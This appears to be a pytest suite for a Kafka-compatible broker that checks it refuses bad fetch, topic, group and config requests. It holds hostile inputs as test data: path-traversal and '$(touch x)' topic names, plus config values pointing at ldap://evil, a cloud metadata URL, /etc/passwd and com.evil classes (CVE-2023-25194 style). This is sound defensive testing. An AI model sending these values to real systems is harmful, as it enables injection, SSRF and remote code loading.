"""Bad input in the requests about topics, fetches, groups and settings. After every test a good client is served.

Rows of the catalogue that are not here, as what they speak of is not served yet: subscription regular expressions
(KIP-848 groups), transaction timeouts, unlisted URLs (there is no setting that takes one).
"""

from __future__ import annotations

import os
import time
from collections.abc import Iterator
from contextlib import ExitStack
from typing import Any

import pytest
from tests.compat.hostile import (
    FETCH_VERSION,
    NOW_MS,
    Target,
    computed_within,
    fetch,
    produce,
    records,
    with_body,
)

from moldau_broker.base.errors import ErrorCode
from moldau_broker.base.limits import FETCH_SESSION_PARTITIONS_MAX, FETCH_SESSION_SLOTS_MAX
from moldau_broker.testing.broker import EmbeddedBroker
from moldau_broker.testing.raw import ConnectionClosed, RawClient
from moldau_broker.wire.apis import ApiKey
from moldau_broker.wire.compression import compress
from moldau_broker.wire.messages import incremental_alter_configs as altering
from moldau_broker.wire.messages.create_partitions import CreatePartitionsRequest, CreatePartitionsTopic
from moldau_broker.wire.messages.create_topics import (
    CreatableReplicaAssignment,
    CreatableTopic,
    CreatableTopicConfig,
    CreateTopicsRequest,
)
from moldau_broker.wire.messages.delete_records import (
    DeleteRecordsPartition,
    DeleteRecordsRequest,
    DeleteRecordsTopic,
)
from moldau_broker.wire.messages.delete_topics import DeleteTopicsRequest
from moldau_broker.wire.messages.fetch import FetchPartition, FetchRequest, FetchTopic, ReplicaState
from moldau_broker.wire.messages.find_coordinator import FindCoordinatorRequest
from moldau_broker.wire.messages.heartbeat import HeartbeatRequest
from moldau_broker.wire.messages.join_group import JoinGroupRequest, JoinGroupRequestProtocol
from moldau_broker.wire.messages.list_offsets import (
    ListOffsetsPartition,
    ListOffsetsRequest,
    ListOffsetsTopic,
)
from moldau_broker.wire.messages.metadata import MetadataRequest, MetadataRequestTopic
from moldau_broker.wire.messages.offset_commit import (
    OffsetCommitRequest,
    OffsetCommitRequestPartition,
    OffsetCommitRequestTopic,
)
from moldau_broker.wire.messages.offset_fetch import OffsetFetchRequest, OffsetFetchRequestGroup
from moldau_broker.wire.records import parse_header

TOPIC, BROKER = 2, 4
SET = 0


@pytest.fixture(scope="module")
def shared() -> Iterator[Target]:
    with EmbeddedBroker({"group.max.size": "5"}) as broker:
        target = Target(broker)
        yield target
        target.close()


@pytest.fixture
def broker(shared: Target) -> Iterator[EmbeddedBroker]:
    """A broker that must still serve the good client afterwards."""
    yield shared.broker
    shared.still_serves()


@pytest.fixture
def client(broker: EmbeddedBroker) -> Iterator[RawClient]:
    with broker.connect() as client:
        yield client


@pytest.fixture
def topic(broker: EmbeddedBroker) -> str:
    return broker.create_topic()


# --- fetches ----------------------------------------------------------------------------------------------


def fetch_topics(topic: str, count: int = 1, **fields: int) -> list[FetchTopic]:
    """Partition 0 and those behind it, which need not exist."""
    options = {"partition_max_bytes": 1 << 20, **fields}
    return [
        FetchTopic(topic=topic, partitions=[FetchPartition(partition=at, **options) for at in range(count)])
    ]


@pytest.mark.parametrize("offset", [-1, -2, 4, 2**63 - 1, -(2**63)])
def test_an_offset_out_of_range_is_told(client: RawClient, topic: str, offset: int) -> None:
    """With the range, so that the reader can reset; the end itself is in range."""
    assert produce(client, topic, records(b"1", b"2", b"3")).error_code == ErrorCode.NONE
    refused = fetch(client, topic, offset)
    assert refused.error_code == ErrorCode.OFFSET_OUT_OF_RANGE
    assert (refused.log_start_offset, refused.high_watermark) == (0, 3)
    assert not refused.records
    assert fetch(client, topic, 3).error_code == ErrorCode.NONE


def test_unknown_topics_partitions_and_ids_are_told(client: RawClient, topic: str) -> None:
    """3 by name and for an index, 100 by id."""
    assert fetch(client, "nowhere").error_code == ErrorCode.UNKNOWN_TOPIC_OR_PARTITION
    for index in (1, -1, 2**31 - 1):
        partition = FetchPartition(partition=index, partition_max_bytes=100)
        answer = fetch(client, topic, topics=[FetchTopic(topic=topic, partitions=[partition])])
        assert answer.error_code == ErrorCode.UNKNOWN_TOPIC_OR_PARTITION
    wanted = FetchTopic(topic_id=b"no such topic id", partitions=[FetchPartition(partition=0)])
    response = client.call(ApiKey.FETCH, 13, FetchRequest(topics=[wanted]))
    assert response.responses[0].partitions[0].error_code == ErrorCode.UNKNOWN_TOPIC_ID


def test_a_client_cannot_fetch_as_a_replica(client: RawClient, topic: str) -> None:
    """CVE-2018-1288: a follower's fetch moves the high watermark; 29 on the clients' listener, in every version."""
    produce(client, topic, records())
    for version, fields in (
        (4, {"replica_id": 1}),
        (12, {"replica_id": 0}),
        (12, {"replica_id": 2**31 - 1}),
        (15, {"replica_state": ReplicaState(replica_id=1, replica_epoch=7)}),
    ):
        if version < 13:
            wanted: Any = {"topics": fetch_topics(topic)}
        else:
            wanted = {
                "topics": [FetchTopic(topic_id=bytes(15) + b"x", partitions=[FetchPartition(partition=0)])]
            }
        response = client.call(ApiKey.FETCH, version, FetchRequest(**wanted, **fields))
        (answer,) = response.responses[0].partitions
        assert answer.error_code == ErrorCode.TOPIC_AUTHORIZATION_FAILED
        assert not answer.records


@pytest.mark.parametrize("epoch", [0, 1, 5, 2**31 - 1])
def test_fetches_of_another_leader_epoch_are_fenced(client: RawClient, topic: str, epoch: int) -> None:
    """KIP-320: 74 where the reader lags behind, 75 where it is ahead of us; with the leader in newer versions."""
    produce(client, topic, records())
    answer = fetch(client, topic, topics=fetch_topics(topic, current_leader_epoch=epoch))
    assert answer.error_code == (ErrorCode.UNKNOWN_LEADER_EPOCH if epoch else ErrorCode.NONE)


def test_a_reader_whose_log_went_another_way_is_told_where(client: RawClient, topic: str) -> None:
    """KIP-595: an epoch we do not have, or a longer one than ours, gets the point of divergence and no records."""
    produce(client, topic, records(b"1", b"2"))
    answer = fetch(client, topic, topics=fetch_topics(topic, fetch_offset=5, last_fetched_epoch=0))
    assert (answer.diverging_epoch.epoch, answer.diverging_epoch.end_offset) == (0, 2)
    assert not answer.records


@pytest.mark.parametrize("size", [-1, -(2**31), 0, 1])
def test_a_fetch_for_no_bytes_still_gets_its_first_batch(client: RawClient, topic: str, size: int) -> None:
    """Or a reader with a small buffer could never go on (KIP-74); negative sizes are as good as none."""
    produce(client, topic, records(b"1"))
    produce(client, topic, records(b"2"))
    answer = fetch(client, topic, topics=fetch_topics(topic, partition_max_bytes=size), max_bytes=size)
    assert answer.error_code == ErrorCode.NONE
    assert 0 < len(answer.records) < 100


def test_a_fetch_for_everything_is_bounded(client: RawClient, broker: EmbeddedBroker) -> None:
    """2 GiB asked for, at once and at least: no more than 50 MiB come, and waiting ends in time."""
    topic = broker.create_topic(partitions=4)
    for index in range(4):
        for _ in range(20):
            assert produce(client, topic, records(bytes(900_000)), index=index, acks=1).error_code == 0
    everything = FetchRequest(
        max_wait_ms=100,
        min_bytes=2**31 - 1,
        max_bytes=2**31 - 1,
        topics=fetch_topics(topic, 4, partition_max_bytes=2**31 - 1),
    )
    response = client.call(ApiKey.FETCH, FETCH_VERSION, everything)
    size = sum(len(one.records) for one in response.responses[0].partitions)
    assert 40 << 20 < size <= 50 << 20


def test_a_negative_wait_or_minimum_answers_at_once(client: RawClient, topic: str) -> None:
    """Nonsense in the numbers does not hang a request: the client would give up after ten seconds."""
    for wait, minimum in ((-1, 1), (-(2**31), 1), (2**31 - 1, -1), (2**31 - 1, 0), (0, 2**31 - 1)):
        assert fetch(client, topic, max_wait_ms=wait, min_bytes=minimum).error_code == ErrorCode.NONE


def test_a_fetch_of_a_hundred_thousand_partitions_is_answered(client: RawClient, topic: str) -> None:
    """Most do not exist; each is answered, nothing else is held up for long, and there is no session of it."""
    request = FetchRequest(max_wait_ms=0, session_epoch=0, topics=fetch_topics(topic, 100_000))
    with computed_within(5):
        response = client.call(ApiKey.FETCH, FETCH_VERSION, request)
    codes = [one.error_code for one in response.responses[0].partitions]
    assert codes == [ErrorCode.NONE] + [ErrorCode.UNKNOWN_TOPIC_OR_PARTITION] * 99_999
    assert response.session_id == 0


def test_a_partition_named_a_hundred_thousand_times_waits_once(
    client: RawClient, broker: EmbeddedBroker, topic: str
) -> None:
    """The same partition over and over neither multiplies what is read nor what a waiting fetch costs."""
    same = [
        FetchTopic(
            topic=topic, partitions=[FetchPartition(partition=0, partition_max_bytes=1 << 20)] * 50_000
        )
    ]
    client.post(ApiKey.FETCH, FETCH_VERSION, FetchRequest(max_wait_ms=60_000, min_bytes=1, topics=same))
    with broker.connect() as other:
        deadline = time.monotonic() + 30
        while not (waiting := broker.ask(lambda inside: waiters(inside, topic))):
            assert time.monotonic() < deadline
        assert waiting == 1
        assert produce(other, topic, records(bytes(100_000))).error_code == ErrorCode.NONE
    _, response = client.receive(ApiKey.FETCH, FETCH_VERSION)
    assert sum(len(one.records) for one in response.responses[0].partitions) <= 50 << 20


def waiters(inside: Any, topic: str) -> int:
    return len(inside.replicas.partition(topic, 0).fetch_waiters)


def test_sessions_that_nobody_continues_are_bounded(
    client: RawClient, broker: EmbeddedBroker, topic: str
) -> None:
    """Session churn: beyond the slots, and beyond the partitions of all, fetches are served without a session."""
    sessions = broker.app.broker.fetch_sessions
    begin = FetchRequest(max_wait_ms=0, session_epoch=0, topics=fetch_topics(topic))
    ids = [
        client.call(ApiKey.FETCH, FETCH_VERSION, begin).session_id
        for _ in range(FETCH_SESSION_SLOTS_MAX + 50)
    ]
    assert len(sessions) == FETCH_SESSION_SLOTS_MAX
    assert ids[-1] == 0
    end = FetchRequest(max_wait_ms=0, session_epoch=-1, topics=[])
    for session_id in ids:
        if session_id:
            closing = FetchRequest(max_wait_ms=0, session_epoch=-1, session_id=session_id)
            assert client.call(ApiKey.FETCH, FETCH_VERSION, closing).error_code == ErrorCode.NONE
    assert client.call(ApiKey.FETCH, FETCH_VERSION, end).error_code == ErrorCode.NONE
    assert (len(sessions), sessions.partitions) == (0, 0)
    large = FetchRequest(
        max_wait_ms=0, session_epoch=0, topics=fetch_topics(topic, FETCH_SESSION_PARTITIONS_MAX)
    )
    ids = [client.call(ApiKey.FETCH, FETCH_VERSION, large).session_id for _ in range(12)]
    assert [session_id != 0 for session_id in ids] == [True] * 10 + [False] * 2
    for session_id in ids[:10]:
        client.call(ApiKey.FETCH, FETCH_VERSION, FetchRequest(session_epoch=-1, session_id=session_id))
    assert sessions.partitions == 0


@pytest.mark.parametrize(
    ("session_id", "epoch", "error"),
    [
        (12345, 1, ErrorCode.FETCH_SESSION_ID_NOT_FOUND),
        (-1, 1, ErrorCode.FETCH_SESSION_ID_NOT_FOUND),
        (0, 1, ErrorCode.FETCH_SESSION_ID_NOT_FOUND),
        (0, 2**31 - 1, ErrorCode.FETCH_SESSION_ID_NOT_FOUND),
        (0, -2, ErrorCode.INVALID_FETCH_SESSION_EPOCH),
    ],
)
def test_made_up_sessions_are_refused(
    client: RawClient, session_id: int, epoch: int, error: ErrorCode
) -> None:
    """An unknown id or an epoch that cannot be; the reader starts over."""
    request = FetchRequest(max_wait_ms=0, session_id=session_id, session_epoch=epoch)
    refused = client.call(ApiKey.FETCH, FETCH_VERSION, request).error_code
    assert refused in (error, ErrorCode.FETCH_SESSION_ID_NOT_FOUND)


def offset_at(client: RawClient, topic: str, timestamp: int, version: int = 7) -> tuple[int, int]:
    """(error, offset) from ListOffsets."""
    wanted = ListOffsetsTopic(name=topic, partitions=[ListOffsetsPartition(timestamp=timestamp)])
    request = ListOffsetsRequest(replica_id=-1, topics=[wanted])
    (answer,) = client.call(ApiKey.LIST_OFFSETS, version, request).topics[0].partitions
    return answer.error_code, answer.offset


def test_timestamps_that_mean_nothing_find_nothing(client: RawClient, topic: str) -> None:
    """35 for negative ones without a meaning in this version; no offset where no record is so late."""
    produce(client, topic, records())
    for timestamp in (-7, -100, -(2**63), -4, -5, -6):
        assert offset_at(client, topic, timestamp) == (ErrorCode.UNSUPPORTED_VERSION, -1)
    for timestamp in (-7, -(2**63)):
        assert offset_at(client, topic, timestamp, version=11) == (ErrorCode.UNSUPPORTED_VERSION, -1)
    assert offset_at(client, topic, 2**63 - 1) == (ErrorCode.NONE, -1)
    assert [offset_at(client, topic, special) for special in (-1, -2, -3)] == [(0, 1), (0, 0), (0, 0)]


@pytest.mark.parametrize("codec", [1, 2, 3, 4])
def test_a_look_up_by_time_in_a_body_that_cannot_be_opened_harms_nobody(
    client: RawClient, topic: str, codec: int
) -> None:
    """Batches stay opaque when they come, so look-ups by time meet garbage and bombs; those count as one record."""
    assert produce(client, topic, records(b"x", codec=codec)).base_offset == 0
    header = parse_header(records(b"x", b"y", codec=codec))
    bomb = compress(codec, bytes(80 << 20))[: 1 << 19]
    for at, body in enumerate((b"garbage" * 20, b"", bomb)):
        batch = with_body(header._replace(max_timestamp=NOW_MS + 1 + at), body)
        assert produce(client, topic, batch).base_offset == 1 + 2 * at
    assert produce(client, topic, records(b"x", codec=codec)).base_offset == 7
    with computed_within(3):
        for _ in range(2):
            assert offset_at(client, topic, NOW_MS) == (ErrorCode.NONE, 0)
            assert offset_at(client, topic, NOW_MS + 1) == (ErrorCode.NONE, 1)
            assert offset_at(client, topic, NOW_MS + 2) == (ErrorCode.NONE, 3)
            assert offset_at(client, topic, NOW_MS + 3) == (ErrorCode.NONE, 5)
            assert offset_at(client, topic, -3) == (ErrorCode.NONE, 5)
    assert fetch(client, topic).error_code == ErrorCode.NONE


@pytest.mark.parametrize("offset", [-2, 4, 2**63 - 1, -(2**63)])
def test_records_are_not_deleted_beyond_the_end(client: RawClient, topic: str, offset: int) -> None:
    """DeleteRecords above the high watermark or below -1 changes nothing."""
    produce(client, topic, records(b"1", b"2", b"3"))
    wanted = DeleteRecordsTopic(name=topic, partitions=[DeleteRecordsPartition(offset=offset)])
    request = DeleteRecordsRequest(topics=[wanted], timeout_ms=5_000)
    (answer,) = client.call(ApiKey.DELETE_RECORDS, 2, request).topics[0].partitions
    assert answer.error_code == ErrorCode.OFFSET_OUT_OF_RANGE
    assert fetch(client, topic).log_start_offset == 0


# --- topics -----------------------------------------------------------------------------------------------


def create(client: RawClient, *topics: CreatableTopic, validate_only: bool = False) -> list[int]:
    request = CreateTopicsRequest(topics=list(topics), timeout_ms=5_000, validate_only=validate_only)
    response = client.call(ApiKey.CREATE_TOPICS, 5, request)
    assert all(one.error_message for one in response.topics if one.error_code), "a refusal has words"
    return [one.error_code for one in response.topics]


def wanted_topic(name: str, partitions: int = 1, replicas: int = 1, **fields: Any) -> CreatableTopic:
    return CreatableTopic(name=name, num_partitions=partitions, replication_factor=replicas, **fields)


ILLEGAL_NAMES = (
    "",
    ".",
    "..",
    "x" * 250,
    "a/b",
    "../../etc/passwd",
    "/absolute",
    "nul\0byte",
    "sp ace",
    "ünïcode",
    "\N{FULLWIDTH FULL STOP}\N{FULLWIDTH FULL STOP}",
    "new\nline",
    "back\\slash",
    "per%cent",
    "$(touch x)",
)


@pytest.mark.parametrize("name", ILLEGAL_NAMES, ids=ascii)
def test_illegal_topic_names_are_refused_and_reach_no_file(
    client: RawClient, broker: EmbeddedBroker, name: str
) -> None:
    """17 from CreateTopics and from Metadata's auto-creation; nothing appears in the folder or around it."""

    def folders() -> set[str]:
        return {path.name for path in broker.data_dir.iterdir() if path.is_dir()}

    before = folders()
    assert create(client, wanted_topic(name)) == [ErrorCode.INVALID_TOPIC_EXCEPTION]
    request = MetadataRequest(topics=[MetadataRequestTopic(name=name)], allow_auto_topic_creation=True)
    (described,) = client.call(ApiKey.METADATA, 9, request).topics
    assert described.error_code == ErrorCode.INVALID_TOPIC_EXCEPTION
    assert folders() <= before
    if "\0" not in name and name.strip("./"):
        assert not os.path.lexists(broker.data_dir / f"{name}-0")


def test_the_longest_name_is_a_name(client: RawClient, broker: EmbeddedBroker) -> None:
    """249 characters, the folder's name then has 251; written to and read from."""
    name = "x" * 249
    assert create(client, wanted_topic(name)) == [ErrorCode.NONE]
    assert produce(client, name, records()).error_code == ErrorCode.NONE
    assert (broker.data_dir / f"{name}-0").is_dir()


def test_names_that_collide_in_metrics_are_refused(client: RawClient) -> None:
    """`a.b` and `a_b` become one name where dots are not allowed (17, as in Kafka)."""
    assert create(client, wanted_topic("collide.with_me")) == [ErrorCode.NONE]
    for name in ("collide_with_me", "collide.with.me", "collide_with.me"):
        assert create(client, wanted_topic(name)) == [ErrorCode.INVALID_TOPIC_EXCEPTION]
    both = create(client, wanted_topic("in.one"), wanted_topic("in_one"))
    assert sorted(both) == [ErrorCode.NONE, ErrorCode.INVALID_TOPIC_EXCEPTION]


def test_the_metadata_log_is_no_topic_of_clients(client: RawClient) -> None:
    """Neither made nor deleted nor found."""
    assert create(client, wanted_topic("__cluster_metadata")) == [ErrorCode.INVALID_REQUEST]
    request = DeleteTopicsRequest(topic_names=["__cluster_metadata"], timeout_ms=5_000)
    (deleted,) = client.call(ApiKey.DELETE_TOPICS, 5, request).responses
    assert deleted.error_code in (ErrorCode.UNKNOWN_TOPIC_OR_PARTITION, ErrorCode.INVALID_TOPIC_EXCEPTION)
    assert fetch(client, "__cluster_metadata").error_code == ErrorCode.UNKNOWN_TOPIC_OR_PARTITION


def test_topics_that_cannot_be_are_refused_each_for_itself(
    client: RawClient, broker: EmbeddedBroker, topic: str
) -> None:
    """The table's codes; the good one beside them is created."""
    config = CreatableTopicConfig(name="cleanup.policy", value="shred")
    unknown = CreatableTopicConfig(name="no.such.setting", value="1")
    assignment = CreatableReplicaAssignment(partition_index=0, broker_ids=[1, 99])
    codes = create(
        client,
        wanted_topic(topic),
        wanted_topic("no-partitions", partitions=0),
        wanted_topic("negative-partitions", partitions=-2),
        wanted_topic("no-replicas", replicas=0),
        wanted_topic("too-many-replicas", replicas=2),
        wanted_topic("bad-config", configs=[config]),
        wanted_topic("unknown-config", configs=[unknown]),
        wanted_topic("bad-assignment", partitions=-1, replicas=-1, assignments=[assignment]),
        wanted_topic("fine"),
    )
    assert codes == [
        ErrorCode.TOPIC_ALREADY_EXISTS,
        ErrorCode.INVALID_PARTITIONS,
        ErrorCode.INVALID_PARTITIONS,
        ErrorCode.INVALID_REPLICATION_FACTOR,
        ErrorCode.INVALID_REPLICATION_FACTOR,
        ErrorCode.INVALID_CONFIG,
        ErrorCode.INVALID_CONFIG,
        ErrorCode.INVALID_REPLICA_ASSIGNMENT,
        ErrorCode.NONE,
    ]
    assert broker.end_offset("fine") == 0


def test_a_topic_named_twice_in_one_request_is_refused(client: RawClient) -> None:
    """42: which of the two would count?"""
    codes = create(client, wanted_topic("twice"), wanted_topic("twice", partitions=3), wanted_topic("once"))
    assert sorted(codes) == [ErrorCode.NONE, ErrorCode.INVALID_REQUEST]


@pytest.mark.parametrize("partitions", [4_001, 10_001, 10**6, 2**31 - 1])
def test_too_many_partitions_are_refused(client: RawClient, broker: EmbeddedBroker, partitions: int) -> None:
    """44: an accidental million must not end the node, neither at once nor by growth."""
    name = f"large-{partitions}"
    with computed_within(2):
        assert create(client, wanted_topic(name, partitions=partitions)) == [ErrorCode.POLICY_VIOLATION]
        assert create(client, wanted_topic(name)) == [ErrorCode.NONE]
        assert grow(client, name, partitions) == ErrorCode.POLICY_VIOLATION
    with pytest.raises(LookupError):
        broker.end_offset(name, 1)


def grow(client: RawClient, name: str, count: int) -> int:
    wanted = CreatePartitionsTopic(name=name, count=count, assignments=None)
    request = CreatePartitionsRequest(topics=[wanted], timeout_ms=5_000)
    (answer,) = client.call(ApiKey.CREATE_PARTITIONS, 2, request).results
    return int(answer.error_code)


def test_partitions_only_grow(client: RawClient, broker: EmbeddedBroker) -> None:
    """37 for fewer, as many, none or less than none."""
    topic = broker.create_topic(partitions=3)
    for count in (3, 2, 1, 0, -1, -(2**31)):
        assert grow(client, topic, count) == ErrorCode.INVALID_PARTITIONS
    assert grow(client, "nowhere", 4) == ErrorCode.UNKNOWN_TOPIC_OR_PARTITION
    assert grow(client, topic, 4) == ErrorCode.NONE
    assert broker.end_offset(topic, 3) == 0


def test_ten_thousand_topics_in_one_request_are_one_refusal_each(client: RawClient) -> None:
    """More than one atomic write may hold; nothing is created."""
    topics = [wanted_topic(f"many-{at}") for at in range(10_001)]
    assert set(create(client, *topics)) == {ErrorCode.POLICY_VIOLATION}


# --- groups -----------------------------------------------------------------------------------------------


def join(group: str, **fields: Any) -> JoinGroupRequest:
    protocol = JoinGroupRequestProtocol(name="range", metadata=b"m")
    usual = {"session_timeout_ms": 10_000, "rebalance_timeout_ms": 10_000, "protocol_type": "consumer"}
    return JoinGroupRequest(**{"group_id": group, "protocols": [protocol], **usual, **fields})


@pytest.fixture
def grouped(client: RawClient) -> RawClient:
    """A client of a broker that coordinates groups already."""
    request = FindCoordinatorRequest(key="any", key_type=0)
    deadline = time.monotonic() + 30
    while True:
        found = client.call(ApiKey.FIND_COORDINATOR, 2, request).error_code
        probe = client.call(ApiKey.HEARTBEAT, 3, HeartbeatRequest(group_id="any", member_id="m")).error_code
        if found == ErrorCode.NONE and probe == ErrorCode.UNKNOWN_MEMBER_ID:
            return client
        assert time.monotonic() < deadline, (found, probe)
        time.sleep(0.02)


def test_a_group_needs_a_name(grouped: RawClient) -> None:
    """24 for the empty one, from every request that can say so."""
    refused = [
        grouped.call(ApiKey.JOIN_GROUP, 5, join("")).error_code,
        grouped.call(ApiKey.HEARTBEAT, 3, HeartbeatRequest(group_id="", member_id="m")).error_code,
    ]
    assert refused == [ErrorCode.INVALID_GROUP_ID] * 2
    found = grouped.call(
        ApiKey.OFFSET_FETCH, 8, OffsetFetchRequest(groups=[OffsetFetchRequestGroup(group_id="")])
    )
    assert found.groups[0].error_code in (ErrorCode.NONE, ErrorCode.INVALID_GROUP_ID)


@pytest.mark.parametrize("session_ms", [5_999, 1_800_001, 0, -1, 2**31 - 1, -(2**31)])
def test_a_session_timeout_out_of_bounds_is_refused(grouped: RawClient, session_ms: int) -> None:
    """26: too short would flap, too long would never notice a dead member."""
    answer = grouped.call(ApiKey.JOIN_GROUP, 5, join("g-session", session_timeout_ms=session_ms))
    assert answer.error_code == ErrorCode.INVALID_SESSION_TIMEOUT


def test_a_join_without_protocol_is_refused(grouped: RawClient) -> None:
    """There would be nothing to agree on."""
    for fields in ({"protocols": []}, {"protocol_type": ""}):
        answer = grouped.call(ApiKey.JOIN_GROUP, 5, join("g-nothing", **fields))
        assert answer.error_code == ErrorCode.INCONSISTENT_GROUP_PROTOCOL


def test_strangers_are_told_that_they_are(grouped: RawClient) -> None:
    """25: a made-up member id joins nothing and beats for nobody."""
    assert grouped.call(ApiKey.JOIN_GROUP, 5, join("g-stranger", member_id="made up")).error_code == (
        ErrorCode.UNKNOWN_MEMBER_ID
    )
    beat = HeartbeatRequest(group_id="g-stranger", member_id="made up", generation_id=5)
    assert grouped.call(ApiKey.HEARTBEAT, 3, beat).error_code == ErrorCode.UNKNOWN_MEMBER_ID


def test_a_group_takes_only_so_many_members(grouped: RawClient, broker: EmbeddedBroker) -> None:
    """81 beyond group.max.size, which is 5 here and 1,000 by default.

    As in Kafka, a member that has yet to come back while the group forms anew does not take a place.
    """
    with ExitStack() as stack:
        clients = [stack.enter_context(broker.connect()) for _ in range(12)]
        # The first generation is the first client's alone: one of several would leave that many more to come back.
        assert clients[0].call(ApiKey.JOIN_GROUP, 3, join("g-flood")).error_code == ErrorCode.NONE
        for client in clients[1:]:
            client.post(ApiKey.JOIN_GROUP, 3, join("g-flood"))
        refused = 0
        deadline = time.monotonic() + 30
        while refused < 6:
            assert time.monotonic() < deadline, f"only {refused} of 12 are refused"
            for client in clients[1:]:
                if client.readable():
                    code = client.receive(ApiKey.JOIN_GROUP, 3)[1].error_code
                    assert code in (ErrorCode.NONE, ErrorCode.GROUP_MAX_SIZE_REACHED)
                    refused += code == ErrorCode.GROUP_MAX_SIZE_REACHED


def commit(client: RawClient, topic: str, metadata: str | None, offset: int = 1) -> int:
    partition = OffsetCommitRequestPartition(
        partition_index=0, committed_offset=offset, committed_metadata=metadata
    )
    request = OffsetCommitRequest(
        group_id="g-simple", topics=[OffsetCommitRequestTopic(name=topic, partitions=[partition])]
    )
    (answer,) = client.call(ApiKey.OFFSET_COMMIT, 8, request).topics[0].partitions
    return int(answer.error_code)


def test_offset_metadata_is_bounded(grouped: RawClient, topic: str) -> None:
    """12 above 4,096, and the offset is not committed either."""
    assert commit(grouped, topic, "m" * 4_096) == ErrorCode.NONE
    assert commit(grouped, topic, "m" * 4_097, offset=9) == ErrorCode.OFFSET_METADATA_TOO_LARGE
    assert commit(grouped, topic, "m" * 30_000, offset=9) == ErrorCode.OFFSET_METADATA_TOO_LARGE
    assert commit(grouped, topic, None) == ErrorCode.NONE
    assert commit(grouped, "nowhere", "") == ErrorCode.UNKNOWN_TOPIC_OR_PARTITION


def test_a_subscription_of_megabytes_is_refused(grouped: RawClient) -> None:
    """What members say of themselves is kept in memory; a megabyte of it is not a subscription."""
    huge = [JoinGroupRequestProtocol(name="range", metadata=bytes(2 << 20))]
    assert grouped.call(ApiKey.JOIN_GROUP, 3, join("g-huge", protocols=huge)).error_code
    assert grouped.call(ApiKey.JOIN_GROUP, 3, join("g-huge")).error_code == ErrorCode.NONE


# --- settings ---------------------------------------------------------------------------------------------


DANGEROUS = {
    "metric.reporters": "com.evil.Reporter",
    "principal.builder.class": "com.evil.Builder",
    "authorizer.class.name": "com.evil.Authorizer",
    "sasl.jaas.config": "com.sun.security.auth.module.JndiLoginModule required user.provider.url=ldap://evil/x;",
    "listener.name.client.plain.sasl.jaas.config": "com.sun.security.auth.module.LdapLoginModule required;",
    "sasl.oauthbearer.jwks.endpoint.url": "http://169.254.169.254/latest/meta-data",
    "sasl.oauthbearer.token.endpoint.url": "file:///etc/passwd",
    "ssl.keystore.location": "/etc/passwd",
    "ssl.engine.factory.class": "com.evil.Factory",
    "remote.log.storage.manager.class.path": "/tmp/evil.jar",
    "compression.type": "com.evil.Codec",
    "log.dirs": "/etc",
    "config.providers": "file",
}


@pytest.mark.parametrize("name", DANGEROUS)
@pytest.mark.parametrize(("kind", "resource"), [(BROKER, "1"), (BROKER, ""), (TOPIC, "good")])
def test_settings_that_name_classes_urls_and_files_are_refused(
    client: RawClient, kind: int, resource: str, name: str
) -> None:
    """CVE-2023-25194 and kin: nothing is loaded, fetched or opened; the change is an error, and has no effect."""
    config = altering.AlterableConfig(name=name, config_operation=SET, value=DANGEROUS[name])
    request = altering.IncrementalAlterConfigsRequest(
        resources=[
            altering.AlterConfigsResource(resource_type=kind, resource_name=resource, configs=[config])
        ]
    )
    (answer,) = client.call(ApiKey.INCREMENTAL_ALTER_CONFIGS, 1, request).responses
    assert answer.error_code in (ErrorCode.INVALID_CONFIG, ErrorCode.INVALID_REQUEST)
    assert answer.error_message


def test_settings_of_what_is_not_there_are_refused(client: RawClient) -> None:
    """A topic, a broker, a kind of resource nobody knows; each for itself."""
    config = altering.AlterableConfig(name="retention.ms", config_operation=SET, value="1")
    kinds = [(TOPIC, "nowhere"), (BROKER, "77"), (BROKER, "one"), (99, "x"), (0, "x"), (TOPIC, "")]
    request = altering.IncrementalAlterConfigsRequest(
        resources=[
            altering.AlterConfigsResource(resource_type=kind, resource_name=name, configs=[config])
            for kind, name in kinds
        ]
    )
    answers = client.call(ApiKey.INCREMENTAL_ALTER_CONFIGS, 1, request).responses
    assert len(answers) == len(kinds)
    assert all(answer.error_code for answer in answers)


def test_a_setting_longer_than_a_record_is_refused(client: RawClient) -> None:
    """Values are bounded, as they stay in the metadata log and in memory."""
    config = altering.AlterableConfig(
        name="leader.replication.throttled.replicas", config_operation=SET, value="0:1," * 20_000
    )
    request = altering.IncrementalAlterConfigsRequest(
        resources=[altering.AlterConfigsResource(resource_type=TOPIC, resource_name="good", configs=[config])]
    )
    try:
        (answer,) = client.call(ApiKey.INCREMENTAL_ALTER_CONFIGS, 1, request).responses
    except ConnectionClosed:
        return
    assert answer.error_code
